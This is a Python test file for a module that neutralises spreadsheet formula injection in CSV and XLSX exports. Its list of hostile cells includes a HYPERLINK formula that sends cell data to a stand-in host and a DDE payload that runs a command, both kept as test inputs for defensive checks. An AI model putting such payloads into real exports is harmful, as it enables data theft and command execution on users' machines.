import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from fairway.foundation.text import csv_lines, csv_response, safe_cell, write_xlsx

pytestmark = pytest.mark.once

STARTS = "=+-@＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "﹦1+1",
    "=cmd|' /C calc'!A0",
    "+49 30 123",
    "-Ana",
    "--1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_a_spreadsheet_would_calculate_is_text(cell):
    visible = safe_cell(cell).lstrip("\t\r\n\u00a0\ufeff\u200b ")
    assert visible.startswith("'")


@pytest.mark.parametrize(
    "cell",
    ["Ana Reyes", "a-b", "a = b", "1 + 1", "'quoted", "-5", "-5.25", "12", "a@b.example", ""],
)
def test_what_is_harmless_stays_as_it_is(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell", ["a;=1+1;b", "a\n=1+1;", "a\t@SUM(1)", "a| =1"])
def test_a_program_that_splits_at_another_sign_finds_no_formula_either(cell):
    for sign in ";\t\n|":
        assert not any(
            part.lstrip().startswith(tuple(STARTS)) for part in safe_cell(cell).split(sign)
        )


@given(st.text())
def test_no_text_becomes_a_formula_and_none_is_lost(text):
    cell = safe_cell(text)
    assert cell.replace("'", "") == text.replace("'", "")
    if cell.strip()[:1] in set(STARTS):
        assert float(cell) <= 0


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_an_export_reads_back_row_by_row(rows):
    text = "".join(csv_lines(["Name", "Note"], rows))
    assert text.startswith("\ufeffName,Note\r\n")
    back = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert back[1:] == [[safe_cell(cell) for cell in row] for row in rows]


def test_values_of_other_kinds_read_plainly():
    at = datetime(2026, 3, 1, 12, tzinfo=UTC)
    assert [safe_cell(value) for value in (None, 3, -3, Decimal("-1.50"), True, date(2026, 3, 1), at)] == [
        "", "3", "-3", "-1.50", "True", "2026-03-01", "2026-03-01T12:00:00+00:00"
    ]  # fmt: skip


def test_a_download_streams_and_is_never_shown_as_a_page():
    drawn = []

    def rows():
        for number in range(3):
            drawn.append(number)
            yield [number, "=1+1"]

    response = csv_response('people "2026"\r\nX: y', ["n", "note"], rows())
    assert not drawn
    assert response["Content-Disposition"] == 'attachment; filename="people-2026-X-y.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.getvalue().decode().count("'=1+1") == 3


def test_a_workbook_holds_text_as_text_and_no_formula_or_link():
    stream = io.BytesIO()
    long = "x" * 40_000
    rows = [[cell, 5, date(2026, 3, 1)] for cell in HOSTILE] + [
        ["https://evil.example", None, long]
    ]
    write_xlsx(stream, "People: [all]/*?", ["Name", "Count", "On"], rows)
    book = CalamineWorkbook.from_filelike(io.BytesIO(stream.getvalue()))
    read = book.get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[1:-1]] == HOSTILE
    assert read[1][1:] == [5, date(2026, 3, 1)]
    assert len(str(read[-1][2])) == 32_767
    unpacked = unzipped(stream)
    assert not re.search(rb"<(f|hyperlink)[ >/]", unpacked)


def unzipped(stream):
    import zipfile

    with zipfile.ZipFile(stream) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())
